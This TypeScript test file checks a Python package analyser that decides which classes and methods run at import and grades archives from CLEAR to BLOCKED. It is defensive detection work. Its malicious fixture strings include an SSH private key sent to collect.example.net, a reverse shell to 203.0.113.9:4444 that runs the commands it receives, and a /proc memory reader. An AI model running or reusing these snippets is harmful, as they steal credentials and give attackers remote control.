/**
 * A class's methods run at import only when the class is built there or the method is called there
 * (python/reach.ts; docs/package-analysis.md, "Branch pkg24"). Naming a class to read it (a type
 * check, `super`, an annotation, a base class, an attribute read, a doc string's example, `__all__`)
 * builds nothing; a class-body alias (`readmem = leak`) binds without calling; an imported flag's
 * name starts nothing (backstop.ts marks).
 *
 * Real cases (Debian's python3 packages of two honest projects, reduced): a process tube class whose
 * doc strings show it built and whose helper functions only type-check it, with a detached start in
 * a pre-exec hook and a process-memory reader bound again under a second name (CAUTION before: its
 * methods counted as run at import); a wheel updater whose functions are listed in `__all__` and
 * that imports a hidden-window flag (CAUTION before: `__all__` reached every function, and the
 * flag's import line counted as a hidden start). The malicious twins build the class or call the
 * method at import and stay caught.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { analysePython } from '../../shared/packages/analysis/python/flow.js';
import { dormantAt } from '../../shared/packages/analysis/python/reach.js';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { sdistLevel as level } from '../support/archives.js';

test.before(async () => {
  await loadParsers();
});

/** Whether a 1-based line of `src` runs at import (roots: names importers take). */
function live(src: string, marker: string, roots: string[] = []): boolean {
  const facts = analysePython(src);
  assert.ok(facts, 'parsed');
  const line = src.split('\n').findIndex((l) => l.includes(marker)) + 1;
  assert.ok(line > 0, marker);
  return dormantAt(facts!.reach.dormant(roots), line, false) === null;
}

// Inert text: the archives are only read, never installed or run.
const TUBE = `import os
import subprocess


class Tube(object):
    """A process tube.

    Example:
        >>> p = Tube(['cat'])
        >>> p.leak(0x1000)
    """

    def __init__(self, argv, env=None):
        self.env = dict(os.environ) if env is None else env
        self.proc = subprocess.Popen(argv, env=self.env, preexec_fn=self._preexec)

    def _preexec(self):
        os.setsid()

    def leak(self, address, count=1):
        """Read the process's memory: Tube(['cat']).leak(0)"""
        with open('/proc/%i/mem' % self.proc.pid, 'rb') as mem:
            mem.seek(address)
            return mem.read(count)

    readmem = leak


def tube_of(x):
    return isinstance(x, Tube)


__all__ = ['Tube', 'tube_of']
`;

const UPDATER = `import subprocess
import sys
from urllib.request import urlopen

from .winflags import CREATE_NO_WINDOW


def trigger_update(distribution):
    kwargs = {}
    if sys.platform == 'win32':
        kwargs['creationflags'] = CREATE_NO_WINDOW
    return subprocess.Popen([sys.executable, '-m', 'acmetools.update', distribution], **kwargs)


def release_info(distribution):
    return urlopen('https://packages.mirror-index.net/pypi/%s/json' % distribution).read()


def periodic_update(distribution):
    return release_info(distribution)


__all__ = ['trigger_update', 'release_info', 'periodic_update']
`;

test('real case (process tube): a class its module only names, a doc string example, a class-body alias: not CAUTION', async () => {
  const r = await level({ 'acmetools/__init__.py': 'from .tubes import Tube, tube_of\n', 'acmetools/tubes.py': TUBE });
  assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', JSON.stringify(r));
});

test('real case (wheel updater): functions listed in __all__ and an imported hidden-window flag: not CAUTION', async () => {
  const r = await level({
    'acmetools/__init__.py': 'from .periodic import periodic_update\n',
    'acmetools/winflags.py': 'CREATE_NO_WINDOW = 0x08000000\n',
    'acmetools/periodic.py': UPDATER,
  });
  assert.ok(r.level === 'CLEAR' || r.level === 'MONITORED', JSON.stringify(r));
});

test('reach: reading a class builds nothing; its methods stay dormant', () => {
  const cls = 'class Tube:\n    def __init__(self):\n        INIT()\n    def leak(self):\n        LEAK()\n    def __init_subclass__(cls):\n        SUB()\n';
  for (const use of [
    'isinstance(x, Tube)',
    'issubclass(X, Tube)',
    'def f(t: Tube) -> Tube:\n    pass',
    'x: Tube = None',
    'Tube.__doc__',
    'try:\n    pass\nexcept Tube:\n    pass',
    'x is Tube',
    'Tube[int]',
    "__all__ = ['Tube']",
    "__all__ += ['Tube']",
    '"""Example: Tube().leak()"""',
    'f(Tube=1)',
  ]) {
    const src = `${cls}\n${use}\n`;
    assert.not.ok(live(src, 'INIT()'), use);
    assert.not.ok(live(src, 'LEAK()'), use);
  }
  // a base class: its subclass hook runs when the subclass is defined, nothing else
  const sub = `${cls}\nclass Pipe(Tube):\n    pass\n`;
  assert.ok(live(sub, 'SUB()'));
  assert.not.ok(live(sub, 'INIT()'));
});

test('reach: a class built (called, handed on, decorating, a metaclass, a built subclass) runs its hooks; a method runs when called', () => {
  const cls = 'import atexit, threading\nclass Tube:\n    def __init__(self):\n        INIT()\n    def __del__(self):\n        DEL()\n    def leak(self):\n        LEAK()\n    readmem = leak\n    __call__ = leak\n';
  for (const use of [
    'Tube()',
    't = mod.Tube()',
    'atexit.register(Tube)',
    'threading.Thread(target=Tube).start()',
    'HANDLERS = [Tube]',
    '@Tube\ndef f():\n    pass',
    'class Meta(metaclass=Tube):\n    pass',
    'class Pipe(Tube):\n    pass\nPipe()',
    "getattr(mod, 'Tube')()",
    'exec("Tube()")',
    'x = f"{Tube()}"',
  ]) {
    const src = `${cls}\n${use}\n`;
    assert.ok(live(src, 'INIT()'), use);
    assert.ok(live(src, 'DEL()'), use);
    assert.ok(live(src, 'LEAK()'), `${use}: __call__ = leak is a hook of a built class`);
  }
  // the alias binds; calling it (or the method) at import runs the method
  assert.not.ok(live(cls.replace('    __call__ = leak\n', ''), 'LEAK()'));
  assert.ok(live(`${cls.replace('    __call__ = leak\n', '')}\nTube.readmem(None)\n`, 'LEAK()'));
  assert.ok(live(`${cls.replace('    __call__ = leak\n', '')}\nTube.leak(None)\n`, 'LEAK()'));
  // an importer that takes the class may build it
  assert.ok(live(cls, 'INIT()', ['Tube']));
  // a built class whose base is defined elsewhere: that base calls the methods it expects (`run`, `handle`) itself
  const thread = 'import threading\nclass Worker(threading.Thread):\n    def run(self):\n        RUN()\n';
  assert.ok(live(`${thread}Worker().start()\n`, 'RUN()'));
  assert.ok(live(`${thread}class Sub(Worker):\n    def run(self):\n        SUBRUN()\nSub().start()\n`, 'SUBRUN()'));
  assert.not.ok(live(`${thread}isinstance(x, Worker)\n`, 'RUN()'), 'only named: nothing built');
  assert.not.ok(live('class Local:\n    def run(self):\n        RUN()\nLocal()\n', 'RUN()'), 'an in-file class built: its own methods run when called');
  // a module-level alias: bound, not called; called through the alias, run
  const fn = 'def _impl():\n    IMPL()\nrun = _impl\n';
  assert.not.ok(live(fn, 'IMPL()'));
  assert.ok(live(`${fn}run()\n`, 'IMPL()'));
  assert.ok(live(fn, 'IMPL()', ['run']));
});

test('malicious twins: the tube built at import and its memory reader called through the alias stays CAUTION; a built class or a called method that sends a key stays BLOCKED', async () => {
  const init = 'from .tubes import Tube, tube_of\n';
  const built = await level({ 'acmetools/__init__.py': init, 'acmetools/tubes.py': `${TUBE}\n_t = Tube(['cat'])\n_t.readmem(0)\n` });
  assert.is(built.level, 'CAUTION', JSON.stringify(built));
  // the same payload in an unparsed module (no reason to parse it): the guess runs a built class's __init__
  const plain = "import os\n\n\nclass Grab:\n    def __init__(self, pid):\n        os.setsid()\n        self.mem = open('/proc/%i/mem' % pid, 'rb').read(64)\n\n\n_g = Grab(1)\n";
  assert.is((await level({ 'acmetools/__init__.py': 'from .grab import Grab\n', 'acmetools/grab.py': plain })).level, 'CAUTION');
  assert.not.equal((await level({ 'acmetools/__init__.py': 'from .grab import Grab\n', 'acmetools/grab.py': plain.replace('_g = Grab(1)\n', '__all__ = ["Grab"]\n') })).level, 'CAUTION');
  const steal = `import os\nfrom urllib.request import urlopen\n\n\nclass Reporter:\n    def __init__(self):\n        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n        urlopen('https://collect.example.net/k', data=key.encode())\n\n\nReporter()\n`;
  assert.is((await level({ 'acmetools/__init__.py': 'from .rep import Reporter\n', 'acmetools/rep.py': steal })).level, 'BLOCKED');
  const called = steal.replace('def __init__(self)', '@classmethod\n    def report(cls)').replace('Reporter()', 'Reporter.report()');
  // a thread subclass started at import: its run method is called by the thread (a socket's reply run as a command)
  const worker = "import socket, subprocess, threading\n\n\nclass Sync(threading.Thread):\n    def run(self):\n        s = socket.create_connection(('203.0.113.9', 4444))\n        while True:\n            cmd = s.recv(1024).decode()\n            s.send(subprocess.check_output(cmd, shell=True))\n\n\nSync(daemon=True).start()\n";
  assert.is((await level({ 'acmetools/__init__.py': 'from .sync import Sync\n', 'acmetools/sync.py': worker })).level, 'BLOCKED');
  assert.is((await level({ 'acmetools/__init__.py': 'from .rep import Reporter\n', 'acmetools/rep.py': called })).level, 'BLOCKED');
  // the updater's hidden start called at import, with the index fetched: still CAUTION
  const updater = UPDATER + "\ntrigger_update(release_info('acmetools'))\n";
  const u = await level({ 'acmetools/__init__.py': 'from .periodic import periodic_update\n', 'acmetools/winflags.py': 'CREATE_NO_WINDOW = 0x08000000\n', 'acmetools/periodic.py': updater });
  assert.is(u.level, 'CAUTION', JSON.stringify(u));
});

test('an imported flag starts nothing; the flag used in a start at import still counts', async () => {
  const head = "import subprocess, sys\nfrom urllib.request import urlopen\nfrom .winflags import (\n    CREATE_NO_WINDOW,\n)\n\nINFO = urlopen('https://packages.mirror-index.net/pypi/acmetools/json').read()\n";
  const files = (mod: string) => ({ 'acmetools/__init__.py': 'from . import periodic\n', 'acmetools/winflags.py': 'CREATE_NO_WINDOW = 0x08000000\n', 'acmetools/periodic.py': mod });
  const honest = await level(files(`${head}\n\ndef flags():\n    return {'creationflags': 0}\n`));
  assert.ok(honest.level === 'CLEAR' || honest.level === 'MONITORED', JSON.stringify(honest));
  const started = await level(files(`${head}subprocess.Popen([sys.executable, '-m', 'acmetools.update'], creationflags=CREATE_NO_WINDOW)\n`));
  assert.is(started.level, 'CAUTION', JSON.stringify(started));
  const oneLine = await level(files(`${head}import os; os.setsid()\n`));
  assert.is(oneLine.level, 'CAUTION', `a start after the import on its line: ${JSON.stringify(oneLine)}`);
});

test.run();
